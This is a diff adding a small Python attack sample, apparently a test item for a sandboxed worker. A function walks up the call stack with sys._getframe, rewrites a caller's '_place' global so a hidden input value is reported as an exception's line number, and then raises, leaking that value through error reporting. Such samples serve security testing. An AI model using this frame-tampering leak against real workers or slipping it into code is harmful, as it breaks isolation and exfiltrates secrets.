@@ -1,0 +1,18 @@
+# /// attack
+# tries = "Has the worker report an exception in the line whose number is a hidden input."
+# gain = "secret"
+# plain = "nothing"
+# ///
+import sys
+
+import numpy as np
+
+
+def double(x):
+    number = int(np.max(np.abs(x)))
+    frame = sys._getframe()
+    while frame is not None:
+        if "_place" in frame.f_globals:
+            frame.f_globals["_place"] = lambda *_: (1, number)
+        frame = frame.f_back
+    raise ValueError("no")
